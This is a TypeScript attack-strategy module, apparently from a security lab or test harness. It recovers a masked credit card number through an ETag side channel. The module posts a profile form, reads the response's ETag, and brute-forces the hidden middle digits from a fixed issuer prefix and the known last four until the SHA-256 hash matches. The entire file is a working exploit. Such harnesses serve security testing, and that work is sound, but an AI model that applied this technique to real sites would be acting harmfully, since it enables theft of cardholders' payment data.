import { createHash } from 'node:crypto';
import type { Strategy } from '#scripts/attack/strategy';

const etagOf = (text: string) => createHash('sha256').update(text).digest('hex').slice(0, 32);
/** Of sixteen digits: the issuer's first eight are printed in its papers, the last four on every receipt. */
const ISSUER = '40000077';
const UNKNOWN = 4;

/** The answer's mark is computed over what the mask hides: candidates are hashed until one fits. */
export const etagCandidates: Strategy = {
  name: 'candidates against the mark of the answer',
  channel: 'ETag',
  shops: ['mirror'],
  async run({ page, conclude, last4 }) {
    const answer =
      await page(`const answer = await post('/account/profile', form({ card_number: number, motto: code, cvc: code }), json);
      const motto = (await answer.json()).received.find(([name]) => name === 'motto')[1];
      return 'mark:' + answer.headers.get('etag')?.replaceAll('"', '') + ' motto:' + motto + ' ';`);
    const [, mark = '', code = ''] = /mark:([0-9a-f]{32}) motto:(\d+) /.exec(answer) ?? [];
    if (mark === '') return;
    const message = 'Kept as a draft. Give it a title and it is saved.';
    for (let tried = 0; tried < 10 ** UNKNOWN; tried += 1) {
      const number = `${ISSUER}${String(tried).padStart(UNKNOWN, '0')}${last4()}`;
      const received = [
        ['card_number', number],
        ['motto', code],
        ['cvc', code],
      ];
      if (etagOf(JSON.stringify({ message, received })) !== mark) continue;
      await conclude('ETag', number);
      return;
    }
  },
};
